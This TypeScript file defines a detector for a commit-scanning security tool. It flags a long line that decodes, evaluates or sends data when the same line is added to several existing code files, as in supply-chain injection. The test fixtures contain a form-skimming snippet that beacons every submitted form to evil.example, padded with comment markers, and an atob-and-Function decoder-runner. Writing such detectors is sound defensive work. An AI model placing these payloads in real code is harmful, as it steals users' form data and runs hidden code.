import { z } from "zod";
import { defineDetector } from "../../model/detector.ts";
import { aCommit, aFile } from "../../model/examples.ts";
import { DECODES, RUNS_TEXT, TALKS } from "../../text/calls.ts";
import { visible } from "../../text/lines.ts";
import { newCode } from "../../text/new-lines.ts";
import { isCode, isTest } from "../../text/path-classes.ts";

const LINE = `document.addEventListener("submit",function(e){var i=new FormData(e.target);navigator.sendBeacon("https://evil.example/c",i);});${"/**/".repeat(30)}`;
const at = (path: string) => aFile({ path, added: LINE, at: 90 });

export default defineDetector({
  id: "same-code-appended",
  title: "The same line that acts was put into several files",
  family: "content",
  axis: "attack",
  group: "payload",
  stage: "stable",
  since: "0.1.0",
  rationale:
    "Who wants code to run puts it where it belongs. An attacker who does not know which file is loaded puts the same long line into all of them, built ones included.",
  falsePositives: ["A tracking snippet pasted into every page", "Files that a generator repeats"],
  remedy: "Read the line, take it out everywhere, and find out who could push it.",
  references: ["CWE-506", "ATT&CK T1195.002", "forged Dependabot commits 2023"],
  needs: ["diff"],
  options: z.strictObject({
    files: z.int().min(2).default(3).describe("files that get the line"),
    length: z.int().min(40).default(160).describe("characters from which a line is not written several times by hand"),
  }),
  examples: {
    flags: [
      { name: "a sender in every script", commit: aCommit({ files: [at("a.js"), at("lib/b.js"), at("dist/c.js")] }) },
      {
        name: "a decoder in every script",
        commit: aCommit({
          files: ["a.js", "b.js", "c.js"].map((path) =>
            aFile({ path, added: `new Function(atob("${"QUJD".repeat(50)}"))();`, at: 9 }),
          ),
        }),
      },
    ],
    passes: [
      {
        name: "a long import in every file",
        commit: aCommit({
          files: ["a.ts", "b.ts", "c.ts"].map((path) =>
            aFile({ path, added: `import { ${"someName, ".repeat(20)} } from "./names";`, at: 1, removed: "x" }),
          ),
        }),
      },
      { name: "the line in two files", commit: aCommit({ files: [at("a.js"), at("b.js")] }) },
    ],
  },
  detect(commit, { files, length }) {
    const places = new Map<string, { path: string; line: number }[]>();
    for (const file of commit.files) {
      if (!isCode(file.path) || isTest(file.path) || file.status === "added") continue;
      for (const line of newCode(commit, file)) {
        if (line.text.length < length) continue;
        const text = visible(line).trim();
        if (!(TALKS.test(text) || RUNS_TEXT.test(text) || DECODES.test(text))) continue;
        const known = places.get(text) ?? [];
        if (!known.some(({ path }) => path === file.path))
          places.set(text, [...known, { path: file.path, line: line.number }]);
      }
    }
    return [...places.values()]
      .filter((known) => known.length >= files)
      .slice(0, 2)
      .map((known) => ({
        strength: "strong" as const,
        confidence: 1,
        because: `a line that decodes, evaluates or sends stands anew in ${known.length} files`,
        path: known[0]?.path ?? "",
        line: known[0]?.line ?? 1,
        facts: { files: known.slice(0, 20).map(({ path }) => path) },
      }));
  },
});
